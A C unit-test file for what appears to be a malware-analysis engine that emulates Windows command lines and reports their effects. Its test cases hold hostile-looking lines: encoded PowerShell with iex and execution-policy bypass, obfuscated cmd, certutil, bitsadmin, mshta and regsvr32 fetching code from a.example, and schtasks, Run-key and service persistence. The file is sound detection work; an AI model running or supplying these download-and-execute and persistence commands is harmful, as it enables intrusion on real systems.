/* test_command.c - what one command line would do: a case is a line and all that is told of it. */
#include "command/command.h"

#include "base/buf.h"
#include "base/mem.h"

/* clang-format off */
#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>
/* clang-format on */

static void on_act(void *ctx, const struct script_act *act)
{
    struct hn_buf *out = ctx;

    hn_buf_add_cstr(out, script_act_id(act->kind));
    for (size_t i = 0; i < act->field_count; i++) {
        if (strcmp(act->fields[i].name, "Method") == 0 ||
                strcmp(act->fields[i].name, "ParentImage") == 0 ||
                strcmp(act->fields[i].name, "Image") == 0 ||
                strcmp(act->fields[i].name, "Sha256") == 0)
            continue;
        hn_buf_add_char(out, ' ');
        hn_buf_add(out, act->fields[i].value->ptr, act->fields[i].value->len);
    }
    hn_buf_add_char(out, '\n');
}

static void on_layer(void *ctx, const struct script_layer *layer)
{
    struct hn_buf *out = ctx;

    hn_buf_addf(out, "layer %s ", script_language_id(layer->language));
    hn_buf_add_text(out, layer->name);
    hn_buf_add_cstr(out, layer->name.len > 0 ? " " : "");
    hn_buf_add(out, layer->text->ptr, layer->text->len);
    hn_buf_add_char(out, '\n');
}

/* The files of the sample. */
static bool find(void *ctx, struct hn_text name, struct hn_text *ret_text)
{
    static const struct {
        struct hn_text name;
        struct hn_text text;
    } files[] = {
        { HN_TEXT_INIT("file:a.crt"),
                HN_TEXT_INIT("rem\r\n-----BEGIN CERTIFICATE-----\r\naGVs\r\nbG8=\r\n-----END "
                             "CERTIFICATE-----\r\nrem\r\n") },
        { HN_TEXT_INIT("file:a.hex"), HN_TEXT_INIT("68 65 6c\r\n6c 6f") },
        { HN_TEXT_INIT("file:notes.txt"), HN_TEXT_INIT("MsgBox 1") },
    };

    (void)ctx;
    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
        if (!hn_text_eq_nocase(name, files[i].name))
            continue;
        *ret_text = files[i].text;
        return true;
    }
    return false;
}

static enum hn_status evaluate(struct hn_text text, struct hn_buf *out)
{
    struct script_sink sink = { out, on_act, on_layer, NULL, NULL, NULL };
    struct script_part part = { .text = text };
    struct script_source source = {
        .language = SCRIPT_COMMAND, .parts = &part, .part_count = 1, .lookup = find
    };
    struct script_limits limits = script_limits_default;
    struct script_run run;
    enum hn_status status;

    limits.steps_max = 20000;
    script_run_init(&run, &limits, &sink);
    status = command_evaluate(&run, &source, NULL);
    assert_true(run.steps <= limits.steps_max);
    script_run_deinit(&run);
    return status;
}

struct line_case {
    const char *line;
    const char *told;
};

#define B64 "aQBlAHgAIAAxAA==" /* iex 1 */

static const struct line_case cases[] = {
    /* PowerShell's own words. */
    { "powershell -nop -e " B64, "layer powershell iex 1\n" },
    { "\"C:\\Windows\\powershell.exe\" /ENC " B64, "layer powershell iex 1\n" },
    { "powershell \xE2\x80\x93"
      "ec " B64 " -w hidden",
            "layer powershell iex 1\n" },
    { "pwsh -ep bypass -c iex \\\"1\\\"", "layer powershell iex \"1\"\n" },
    { "powershell $a='b c'; iex $a", "layer powershell $a='b c'; iex $a\n" },
    /* cmd.exe and what looks like it. */
    { "cmd /c powershell -c iex 1",
            "process powershell -c iex 1\nlayer command powershell -c iex 1\n" },
    { "%COMSPEC% /v:on /c \"set a=calc&& start /b !a! x\"",
            "process calc x\nlayer command calc x\n" },
    { "C:\\W^indows\\Sys^tem32\\c^md.exe /c a1", "process a1\nlayer command a1\n" },
    { "p^ow^ershell x", "process powershell x\nlayer command powershell x\n" },
    { "cmd /c set x=whoami& call %x% /all", "process whoami /all\nlayer command whoami /all\n" },
    { "cmd /c \"for /f \"tokens=2\" %i in (\"a calc b\") do %i x\"",
            "process calc x\nlayer command calc x\n" },
    { "cmd /c %comspec:~-7,3% /c a1", "process cmd /c a1\nprocess a1\nlayer command a1\n" },
    { "certutil -urlcache -f http://a.example/x x.exe && x.exe",
            "process certutil -urlcache -f http://a.example/x x.exe\n"
            "layer command certutil -urlcache -f http://a.example/x x.exe\n"
            "process x.exe\nlayer command x.exe\n" },
    { "cmd /c echo a1>x.vbs&cscript x.vbs",
            "process cscript x.vbs\nlayer command cscript x.vbs\nfile_write x.vbs\n"
            "layer vbscript x.vbs a1\r\n\n" },
    /* Scripts in a line. */
    { "mshta vbscript:Execute(\"x\")(window.close)",
            "layer vbscript Execute(\"x\")(window.close)\n" },
    { "mshta.exe \"javascript:a=1;close()\"", "layer jscript a=1;close()\n" },
    { "mshta \"about:<script>x</script>\"", "layer html <script>x</script>\n" },
    { "mshta http://a.example/x.hta", "http_request http://a.example/x.hta\n" },
    { "mshta C:\\u\\notes.txt", "layer html C:\\u\\notes.txt MsgBox 1\n" },
    { "rundll32 javascript:\"\\..\\mshtml,RunHTMLApplication \";x()",
            "layer jscript \"\\..\\mshtml,RunHTMLApplication \";x()\n" },
    { "wscript //b //e:vbscript C:\\u\\notes.txt", "layer vbscript C:\\u\\notes.txt MsgBox 1\n" },
    { "cscript x.vbs", "" },
    /* Libraries. */
    { "regsvr32 /s /n /u /i:http://a.example/x.sct scrobj.dll",
            "http_request http://a.example/x.sct\n" },
    { "regsvr32.exe /s C:\\u\\x.ocx", "module_load C:\\u\\x.ocx\n" },
    { "rundll32 C:\\u\\x.dll,Run 1", "module_load C:\\u\\x.dll\n" },
    { "rundll32 shell32.dll,ShellExec_RunDLL \"C:\\u\\x.exe\" /a",
            "process \"C:\\u\\x.exe\" /a\nlayer command \"C:\\u\\x.exe\" /a\n" },
    { "odbcconf /a {REGSVR C:\\u\\x.dll}", "module_load C:\\u\\x.dll\n" },
    { "odbcconf /a \"{REGSVR C:\\u\\x.dll}\"", "module_load C:\\u\\x.dll\n" },
    { "control C:\\u\\x.cpl", "module_load C:\\u\\x.cpl\n" },
    /* Downloads. */
    { "certutil.exe -urlcache -split -f http://a.example/x C:\\x.exe",
            "http_request http://a.example/x\nfile_write C:\\x.exe http://a.example/x\n" },
    { "certutil -f -decode C:\\u\\a.crt out.exe",
            "file_read C:\\u\\a.crt\nfile_write out.exe\nlayer program out.exe hello\n" },
    { "certutil -decodehex a.hex x.js",
            "file_read a.hex\nfile_write x.js\nlayer jscript x.js hello\n" },
    { "certutil -decode none x.exe", "file_read none\nfile_write x.exe\n" },
    { "bitsadmin /transfer j /download /priority high http://a.example/1 C:\\1 "
      "http://a.example/2 C:\\2",
            "http_request http://a.example/1\nfile_write C:\\1 http://a.example/1\n"
            "http_request http://a.example/2\nfile_write C:\\2 http://a.example/2\n" },
    { "bitsadmin /SetNotifyCmdLine j C:\\x.exe -k",
            "process C:\\x.exe -k\nlayer command C:\\x.exe -k\n" },
    { "msiexec /q /i http://a.example/x.msi", "http_request http://a.example/x.msi\n" },
    { "msiexec /y C:\\x.dll", "module_load C:\\x.dll\n" },
    { "curl -sSLo C:\\x.exe http://a.example/x",
            "http_request http://a.example/x\nfile_write C:\\x.exe http://a.example/x\n" },
    { "curl -A b.c -O a.example/x.exe", "http_request http://a.example/x.exe\n" },
    { "curl a.example/x.exe -o x.exe",
            "http_request http://a.example/x.exe\nfile_write x.exe http://a.example/x.exe\n" },
    { "MpCmdRun.exe -DownloadFile -url https://a.example/x -path C:\\x",
            "http_request https://a.example/x\nfile_write C:\\x https://a.example/x\n" },
    { "finger me@192.0.2.7", "connect 192.0.2.7 79\n" },
    /* What starts later, or elsewhere. */
    { "schtasks /create /tn Upd /sc minute /tr \"C:\\x.exe -k\"",
            "scheduled_task Upd C:\\x.exe -k\nlayer command C:\\x.exe -k\n" },
    { "reg add HKCU\\Run /v Upd /t REG_SZ /d C:\\x.exe /f",
            "registry_write HKCU\\Run\\Upd C:\\x.exe\n" },
    { "sc create Upd binPath= \"C:\\x.exe -k\" start= auto",
            "service Upd C:\\x.exe -k\nlayer command C:\\x.exe -k\n" },
    { "wmic /node:. process call create \"calc x\"", "process calc x\nlayer command calc x\n" },
    { "wmic os get /format:\"http://a.example/x.xsl\"", "http_request http://a.example/x.xsl\n" },
    { "forfiles /p C:\\ /m x /c \"cmd /c a1\"", "process cmd /c a1\nlayer command cmd /c a1\n" },
    { "conhost --headless powershell -c a1",
            "process powershell -c a1\nlayer command powershell -c a1\n" },
    { "ssh -o ProxyCommand=\"powershell -c a1\" .",
            "process powershell -c a1\nlayer command powershell -c a1\n" },
    { "%windir%\\system32\\mshta.exe http://a.example/", "http_request http://a.example/\n" },
    /* Nothing is known of these. */
    { "C:\\u\\x.exe http://a.example/", "" },
    { "", "" },
    { "\"", "" },
};

static void cases_do_what_they_say(void **state)
{
    unsigned failed = 0;

    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct hn_buf out = { 0 };

        assert_int_equal(evaluate(hn_text_cstr(cases[i].line), &out), HN_OK);
        if (!hn_text_eq(hn_buf_text(&out), hn_text_cstr(cases[i].told))) {
            failed++;
            print_error("%s\n-> %.*s", cases[i].line, HN_TEXT_ARG(hn_buf_text(&out)));
        }
        hn_buf_deinit(&out);
    }
    assert_int_equal(failed, 0);
}

/* A line, or a script that looks like one. */
static void lines_are_told_from_scripts(void **state)
{
    static const char *const lines[] = { "powershell -e x",
        "\"C:\\Program Files\\x\\cmd.exe\" /c x", "C:\\Windows\\mshta.exe x", "%comspec% /c x",
        "p^ower^shell x", "set a=%b:~1%", "curl.exe x", "start /b x", "for /f %i in (x) do y" };
    static const char *const scripts[] = { "", "$a = 1", "set x = CreateObject(\"a\")",
        "curl $url | iex", "if (a) { b }", "powershell -c 1\npowershell -c 2", "eval(x)",
        "for (i = 0; i < 3; i++) x()", "echo $x" };

    (void)state;
    for (size_t i = 0; i < sizeof lines / sizeof lines[0]; i++)
        if (!command_is_line(hn_text_cstr(lines[i])))
            fail_msg("no line: %s", lines[i]);
    for (size_t i = 0; i < sizeof scripts / sizeof scripts[0]; i++)
        if (command_is_line(hn_text_cstr(scripts[i])))
            fail_msg("a line: %s", scripts[i]);
}

/* Every beginning and end of every case, and failing memory. */
static void hostile_lines_end(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct hn_text line = hn_text_cstr(cases[i].line);

        for (size_t len = 0; len < line.len; len++) {
            struct hn_buf out = { 0 };

            assert_int_equal(evaluate(hn_text_sub(line, 0, len), &out), HN_OK);
            assert_int_equal(evaluate(hn_text_sub(line, len, SIZE_MAX), &out), HN_OK);
            hn_buf_deinit(&out);
        }
    }
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        bool failed = true;

        for (uint64_t n = 1; failed; n++) {
            struct hn_buf out = { 0 };
            enum hn_status status;

            hn_mem_fail_from(n);
            status = evaluate(hn_text_cstr(cases[i].line), &out);
            failed = hn_mem_fail_hits() > 0;
            hn_mem_fail_from(0);
            assert_true(status == HN_OK || status == HN_NOMEM);
            hn_buf_deinit(&out);
        }
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(cases_do_what_they_say),
        cmocka_unit_test(lines_are_told_from_scripts),
        cmocka_unit_test(hostile_lines_end),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
